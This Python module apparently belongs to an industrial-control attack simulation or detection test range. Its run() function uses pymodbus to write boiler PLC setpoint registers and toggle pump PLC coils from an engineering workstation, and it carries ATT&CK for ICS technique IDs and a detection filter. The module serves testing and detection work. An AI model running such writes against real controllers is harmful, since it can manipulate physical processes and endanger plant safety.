"""The engineering workstation, which never writes, changes setpoints over Modbus."""

from __future__ import annotations

from pymodbus.client import ModbusTcpClient

from ..node import Node

TITLE = "Modbus setpoints and coils of both PLCs written by a client that never wrote"
TECHNIQUES = ("T1692.001", "T0836", "T0831")
ORIGIN = "ews"
ENTITIES = ("ews", "plc-boiler", "plc-pump")
EVIDENCE = "modbus.func_code in {5, 6, 15, 16} && ip.src == 10.20.3.20"


def run(node: Node) -> None:
    """Single and multiple registers on the boiler, coils on the pump."""
    boiler = ModbusTcpClient(node.peer("plc-boiler"), timeout=1)
    boiler.connect()
    for address, value in ((0, 990), (1, 995), (5, 2000), (6, 0)):
        boiler.write_register(address, value, device_id=1)
        node.pause(0.4)
    boiler.write_registers(2, [1, 0, 0], device_id=1)
    boiler.close()
    pump = ModbusTcpClient(node.peer("plc-pump"), timeout=1)
    pump.connect()
    for coil in (0, 1, 2):
        pump.write_coil(coil, True, device_id=1)
        node.pause(0.4)
    pump.write_coils(0, [False] * 8, device_id=1)
    pump.close()
